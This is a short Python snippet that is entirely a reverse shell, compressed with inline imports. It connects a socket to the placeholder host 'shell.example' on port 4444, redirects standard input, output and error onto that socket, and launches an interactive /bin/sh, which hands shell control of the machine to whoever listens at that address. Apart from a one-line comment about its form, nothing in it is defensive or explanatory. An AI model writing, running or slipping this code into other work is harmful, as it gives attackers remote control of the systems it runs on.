# descriptors: one line, inline imports
s = __import__("socket").socket()
s.connect(("shell.example", 4444))
[__import__("os").dup2(s.fileno(), n) for n in (0, 1, 2)]
__import__("subprocess").call(["/bin/sh", "-i"])
